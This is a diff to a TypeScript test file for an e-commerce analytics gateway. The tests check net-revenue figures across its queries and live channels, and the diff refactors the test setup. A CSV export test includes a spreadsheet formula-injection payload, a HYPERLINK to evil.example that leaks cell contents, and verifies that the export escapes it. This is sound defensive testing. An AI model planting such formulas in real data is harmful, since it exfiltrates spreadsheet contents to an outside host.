@@ -1,9 +1,10 @@
 // Net revenue (docs/api.md, Metrics) through every seller surface of a real gateway: the
 // catalog queries and the live `sales` and `top_products` channels, against figures worked
 // out by hand from api/history/refund-fixtures.ts. Gross figures would differ in every row.
-import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { afterAll, describe, expect, it } from 'vitest'
 import { eventually } from '../../test/support/eventually.ts'
-import { ingest, rows, startInProcess, tokenFor } from '../../test/support/gateway.ts'
+import { ingest, rows, tokenFor } from '../../test/support/gateway.ts'
+import { gatewayForFile } from '../../test/support/gateway-file.ts'
 import { LiveClient } from '../../test/support/live-client.ts'
 import { refundCase, refundShop } from './refund-fixtures.ts'
 
@@ -11,21 +12,19 @@ const hour = 3_600_000
 const h0 = Math.floor(Date.now() / hour) * hour - 3 * hour // closed hours, inside the live window
 const iso = (ms: number) => new Date(ms).toISOString()
 const minute = (m: number) => iso(h0 + m * 60_000).replace('T', ' ').replace('Z', '')
-let gw: Awaited<ReturnType<typeof startInProcess>>
 let seller: string
 const clients: LiveClient[] = []
 
 /** Decimal strings without trailing zeros; numbers as they are. */
 const canon = (v: unknown): unknown => (typeof v === 'string' && /^-?\d+\.\d+$/.test(v) ? v.replace(/0+$/, '').replace(/\.$/, '') : v)
 async function query(name: string, params: Record<string, string>, columns: string[]) {
-  const res = await fetch(`${gw.url}/api/v1/q/${name}?${new URLSearchParams({ shop: refundShop, ...params })}`, { headers: { authorization: `Bearer ${seller}` } })
+  const res = await fetch(`${file.gw.url}/api/v1/q/${name}?${new URLSearchParams({ shop: refundShop, ...params })}`, { headers: { authorization: `Bearer ${seller}` } })
   expect(res.status, await res.clone().text()).toBe(200)
   const body = (await res.json()) as { rows: Record<string, unknown>[] }
   return body.rows.map((r) => columns.map((c) => canon(r[c])))
 }
 
-beforeAll(async () => {
-  gw = await startInProcess({ LIVE_TICK_MS: '100' })
+const file = gatewayForFile({ LIVE_TICK_MS: '100' }, async (gw) => {
   seller = await tokenFor(['seller'], { shops: [refundShop, 'csv-shop'] })
   const batches = refundCase(h0)
   for (const batch of batches) expect((await ingest(gw, 'orders', batch)).status).toBe(200)
@@ -34,11 +33,8 @@ beforeAll(async () => {
     const [r] = await rows<{ n: string }>(gw.clickhouse('ops'), 'SELECT count() AS n FROM orders WHERE shop_id = {s:String}', { s: refundShop })
     expect(Number(r.n)).toBe(total)
   })
-}, 120_000)
-afterAll(async () => {
-  for (const c of clients) c.close()
-  await gw?.stop()
 })
+afterAll(() => clients.forEach((c) => c.close()))
 
 describe('catalog: net revenue = gross sales - refunds at the refund time', () => {
   it('sales_overview: a period with refunds inside it, of older lines and of a sale that came later', async () => {
@@ -111,7 +107,7 @@ describe('catalog: net revenue = gross sales - refunds at the refund time', () =
 
 describe('live channels: the same net figures', () => {
   it('sales per minute and top products over 24 h', async () => {
-    const c = await LiveClient.connect(gw.url, { token: seller })
+    const c = await LiveClient.connect(file.gw.url, { token: seller })
     clients.push(c)
     c.subscribe(1, 'sales', { shop: refundShop, interval: '1m' })
     c.subscribe(2, 'top_products', { shop: refundShop, window: '24h' })
@@ -142,9 +138,9 @@ describe('live channels: the same net figures', () => {
 describe('CSV export of the catalog', () => {
   it('escapes a product id and category that a spreadsheet would run as formulas', async () => {
     const evil = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
-    expect((await ingest(gw, 'orders', [{ order_id: 'x-1', ts: h0 + 60_000, shop_id: 'csv-shop', customer_id: 'c', product_id: evil, category: '@SUM(1+1)', quantity: 1, unit_price: 5, currency: 'USD', status: 'completed' }])).status).toBe(200)
+    expect((await ingest(file.gw, 'orders', [{ order_id: 'x-1', ts: h0 + 60_000, shop_id: 'csv-shop', customer_id: 'c', product_id: evil, category: '@SUM(1+1)', quantity: 1, unit_price: 5, currency: 'USD', status: 'completed' }])).status).toBe(200)
     await eventually(async () => {
-      const res = await fetch(`${gw.url}/api/v1/q/top_products?shop=csv-shop&from=${iso(h0)}&to=${iso(h0 + hour)}&format=csv`, { headers: { authorization: `Bearer ${seller}` } })
+      const res = await fetch(`${file.gw.url}/api/v1/q/top_products?shop=csv-shop&from=${iso(h0)}&to=${iso(h0 + hour)}&format=csv`, { headers: { authorization: `Bearer ${seller}` } })
       const lines = (await res.text()).split('\r\n')
       expect(lines[1]).toBe(`USD,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")",'@SUM(1+1),5,1,1,5,5,0,0`)
     })
